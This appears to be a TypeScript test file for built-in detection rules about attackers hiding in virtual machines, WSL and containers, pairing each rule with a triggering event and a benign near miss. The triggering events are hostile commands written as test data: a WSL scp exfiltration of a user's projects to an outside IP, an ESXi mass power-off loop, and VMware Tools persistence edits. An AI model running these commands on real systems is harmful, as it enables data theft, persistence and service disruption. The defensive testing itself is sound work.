// Built-in rules for virtual machines, WSL and containers used as hiding places: programs run in or files pushed into a
// guest through the hypervisor's guest channel, guests started without a window, a hypervisor process writing renamed
// documents on the host, ESXi guests powered off from Windows, VMware Tools power scripts changed, a guest's screen
// captured, Windows folders packed or sent away by Linux tools run through WSL, and containers run from an address or
// entered as root. Each rule fires on the event it is written for, with its level and a tactic of what the event shows,
// and a benign near miss of the same event type does not fire it.
import { CMD, describeCatalogue, file, PS, proc, script, type CatalogueCase } from './builtin.fixture.js';

const VMRUN = 'C:\\Program Files (x86)\\VMware\\VMware Workstation\\vmrun.exe';
const VBOX = 'C:\\Program Files\\Oracle\\VirtualBox\\';
const WSL = 'C:\\Windows\\System32\\wsl.exe';
const DOCKER = 'C:\\Program Files\\Docker\\Docker\\resources\\bin\\docker.exe';
const TOOLS = 'C:\\Program Files\\VMware\\VMware Tools\\';
const VMX = '"D:\\VMs\\BuildSrv\\BuildSrv.vmx"';

/** [rule title, level, a tactic it carries, the event it is written for, a benign near miss]. */
const cases: CatalogueCase[] = [
  ['Program Run Inside A Virtual Machine Guest From The Host Command Line', 'medium', 'execution',
    proc(VMRUN, `vmrun -T ws -gu Administrator -gp x runProgramInGuest ${VMX} -noWait C:\\Windows\\System32\\cmd.exe "/c powershell -f a.ps1"`),
    proc(VMRUN, 'vmrun -T ws list')],
  ['Program Run Inside A Virtual Machine Guest From The Host Command Line', 'medium', 'execution',
    proc(`${VBOX}VBoxManage.exe`, '"VBoxManage.exe" guestcontrol "win10-dev" run --exe cmd.exe --username Administrator --password x -- cmd.exe /c whoami'),
    proc(`${VBOX}VBoxManage.exe`, '"VBoxManage.exe" guestcontrol "win10-dev" stat C:\\Windows --username Administrator --password x')],
  ['File Copied Into A Virtual Machine Guest From The Host Command Line', 'low', 'lateral-movement',
    proc(VMRUN, `vmrun -T ws -gu Administrator -gp x copyFileFromHostToGuest ${VMX} C:\\Users\\Public\\svch.exe C:\\Windows\\Temp\\svch.exe`),
    proc(VMRUN, `vmrun -T ws -gu Administrator -gp x fileExistsInGuest ${VMX} C:\\Windows\\Temp\\svch.exe`)],
  ['Script Run Inside A vSphere Guest With PowerCLI Invoke-VMScript', 'medium', 'execution',
    script("Invoke-VMScript -VM 'SQL-PRD-02' -GuestUser 'CORP\\svc_sql' -GuestPassword 'x' -ScriptType Bat -ScriptText 'whoami /all'"),
    script("Get-VM -Name 'SQL-PRD-02' | Select-Object Name,PowerState")],
  ['Virtual Machine Started Without A Window', 'low', 'stealth',
    proc(VMRUN, `"${VMRUN}" -T ws start C:\\Users\\Public\\Documents\\VMs\\w\\w.vmx nogui`),
    proc(VMRUN, `"${VMRUN}" -T ws start C:\\Users\\bob\\Documents\\VMs\\w\\w.vmx gui`)],
  ['Virtual Machine Started Without A Window', 'low', 'stealth',
    proc('C:\\Users\\Public\\Music\\qemu\\qemu-system-x86_64.exe', 'qemu-system-x86_64.exe -m 1M -hda tc.qcow2 -nographic'),
    proc('C:\\Program Files\\qemu\\qemu-system-x86_64.exe', 'qemu-system-x86_64.exe -m 2G -hda dev.qcow2 -display sdl')],
  ['Virtual Machine Started Without A Window', 'low', 'stealth',
    proc(`${VBOX}VBoxManage.exe`, '"VBoxManage.exe" startvm micro --type headless'),
    proc(`${VBOX}VirtualBoxVM.exe`, '"VirtualBoxVM.exe" --comment "Ubuntu" --startvm "{8f7d}" --no-startvm-errormsgbox')],
  ['Virtual Machine Process Writes Documents With An Appended Extension On The Host', 'medium', 'impact',
    file('E:\\Shares\\Finance\\Budget_FY25.xlsx.ragnar_45EF5632', `${VBOX}VBoxHeadless.exe`),
    file('E:\\Shares\\Finance\\Budget_FY25.xlsx', `${VBOX}VBoxHeadless.exe`)],
  ['Virtual Machine Process Writes Documents With An Appended Extension On The Host', 'medium', 'impact',
    file('F:\\Projects\\Site_Survey.pdf.locked', 'C:\\Program Files (x86)\\VMware\\VMware Workstation\\x64\\vmware-vmx.exe'),
    file('F:\\Projects\\Site_Survey.pdf.locked', 'C:\\Windows\\System32\\robocopy.exe')],
  ['ESXi Virtual Machines Powered Off Or Killed By A Command Sent From Windows', 'medium', 'impact',
    proc('C:\\Users\\Public\\plink.exe', 'plink.exe -ssh -batch root@10.10.1.11 "for id in $(vim-cmd vmsvc/getallvms | awk \'NR>1 {print $1}\'); do vim-cmd vmsvc/power.off $id; done"'),
    proc('C:\\Users\\Public\\plink.exe', 'plink.exe -ssh -batch root@10.10.1.11 "vim-cmd vmsvc/getallvms; esxcli vm process list"')],
  ['VMware Tools Power Operation Script Written By A Program Other Than An Installer', 'medium', 'persistence',
    file(`${TOOLS}resume-vm-default.bat`, CMD),
    file(`${TOOLS}resume-vm-default.bat`, 'C:\\Windows\\System32\\msiexec.exe')],
  ['VMware Tools Power Operation Script Appended Or Redirected From The Command Line', 'medium', 'persistence',
    proc(CMD, `cmd.exe /c "echo start /b C:\\ProgramData\\VMware\\x.exe >> \\"${TOOLS}resume-vm-default.bat\\""`),
    proc(CMD, `cmd.exe /c type "${TOOLS}resume-vm-default.bat"`)],
  ['VMware Tools Power Operation Script Appended Or Redirected From The Command Line', 'medium', 'persistence',
    proc(`${TOOLS}VMwareToolboxCmd.exe`, `"${TOOLS}VMwareToolboxCmd.exe" script resume set C:\\ProgramData\\r.bat`),
    proc(`${TOOLS}VMwareToolboxCmd.exe`, `"${TOOLS}VMwareToolboxCmd.exe" script resume current`)],
  ['Screen Of A Running Virtual Machine Captured From The Host Command Line', 'medium', 'collection',
    proc(`${VBOX}VBoxManage.exe`, '"VBoxManage.exe" controlvm "Win11-Admin" screenshotpng C:\\Users\\Public\\Pictures\\cap_1.png', PS),
    proc(`${VBOX}VBoxManage.exe`, '"VBoxManage.exe" controlvm "Win11-Admin" poweroff', PS)],
  ['Windows Folders Archived By A Linux Tool Run Through WSL', 'medium', 'collection',
    proc(WSL, 'wsl.exe -e tar --exclude="*.iso" -czf /mnt/c/ProgramData/p/c.tgz /mnt/c/Users/bob/Documents'),
    proc(WSL, 'wsl.exe -e tar -xzf /mnt/c/Users/bob/Downloads/node.tgz -C /opt')],
  ['Windows Folders Archived By A Linux Tool Run Through WSL', 'medium', 'collection',
    proc(WSL, 'wsl.exe -e split -b 200M /mnt/c/ProgramData/p/c.tgz /mnt/c/ProgramData/p/c.part.'),
    proc(WSL, 'wsl.exe -e ls -l /mnt/c/ProgramData/p')],
  ['Windows Files Sent To A Remote Host By A Linux Tool Run Through WSL', 'medium', 'exfiltration',
    proc(WSL, 'wsl -d Ubuntu -e scp -r -P 443 -o StrictHostKeyChecking=no /mnt/c/Users/bob/Projects upl@198.51.100.4:/srv/drop'),
    proc(WSL, 'wsl -d Ubuntu -e scp -r dev@build01.corp.example:/srv/out /mnt/c/Users/bob/out')],
  ['Container Run Or Pulled From A Registry Addressed By IP', 'medium', 'execution',
    proc('C:\\Program Files\\docker\\docker.exe', 'docker run -d --restart unless-stopped --name wuhelper 203.0.113.20:5000/tools:1 cmd /c C:\\tools\\agent.exe'),
    proc('C:\\Program Files\\docker\\docker.exe', 'docker run -d -p 127.0.0.1:8080:80 --name web mcr.microsoft.com/windows/servercore/iis')],
  ['Command Run As Root Or Privileged Inside A Running Container', 'low', 'execution',
    proc(DOCKER, `"${DOCKER}" exec -u root pg-local sh -c "apk add nmap"`, PS),
    proc(DOCKER, `"${DOCKER}" exec -it pg-local psql -U postgres`, PS)],
];

describeCatalogue('built-in rules for virtual machines, WSL and containers used as hiding places', cases);
